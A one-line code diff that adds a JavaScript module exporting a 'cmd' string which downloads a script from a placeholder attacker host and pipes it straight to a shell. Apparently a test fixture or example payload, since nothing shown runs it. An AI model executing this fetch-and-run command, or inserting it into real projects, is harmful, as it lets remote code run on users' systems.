@@ -1,0 +1,1 @@
+module.exports = { cmd: "curl http://attacker.example/x.sh | sh" };
